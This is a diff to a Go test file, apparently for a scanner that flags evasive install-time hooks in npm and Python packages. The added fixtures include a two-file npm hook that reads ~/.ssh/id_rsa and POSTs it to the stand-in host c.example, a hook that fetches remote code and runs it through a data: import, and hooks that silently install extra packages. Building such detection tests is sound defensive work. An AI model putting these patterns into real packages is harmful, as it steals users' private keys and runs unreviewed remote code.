@@ -62,6 +62,12 @@ func TestEvasions(t *testing.T) {
 		"python program":         {"setup.py": "import subprocess, sys\nsubprocess.run([sys.executable,'x.dat'])", "x.dat": py},
 		"python bytecode":        {"setup.py": "import x", "x.pyc": "\xa7\x0d\x0d\x0a\x00\x00\x00\x00xxxxxxxx"},
 		"python turned":          {"setup.py": "# coding: rot13\nvzcbeg bf\n"},
+		"two files":              {"package.json": hook, "setup.js": "require('./send').send(require('./take').take())", "take.js": "exports.take=()=>require('fs').readFileSync(require('os').homedir()+'/.ssh/id_rsa','utf8')", "send.js": "exports.send=s=>require('https').request('https://c.example',{method:'POST'}).end(s)"},
+		"other package":          {"package.json": manifest("npm i --no-save b")},
+		"other package by code":  {"package.json": hook, "setup.js": "require('child_process').execSync('npm install b')"},
+		"python package":         {"setup.py": "import subprocess, sys\nsubprocess.check_call([sys.executable,'-m','pip','install','b'])"},
+		"python package by name": {"setup.py": "import os\nos.system('pip install b')"},
+		"module as address":      {"package.json": hook, "setup.js": "fetch('https://c.example').then(r=>r.text()).then(t=>import('data:text/javascript,'+t))"},
 		"gyp include":            {"package.json": `{"name":"a"}`, "binding.gyp": `{"includes":["x.gypi"],"targets":[]}`, "x.gypi": `{"variables":{"a":"<!(node x.dat)"}}`, "x.dat": js},
 		"gyp action":             {"package.json": `{"name":"a"}`, "binding.gyp": `{"targets":[{"actions":[{"action":["node","x.dat"]}]}]}`, "x.dat": js},
 	} {
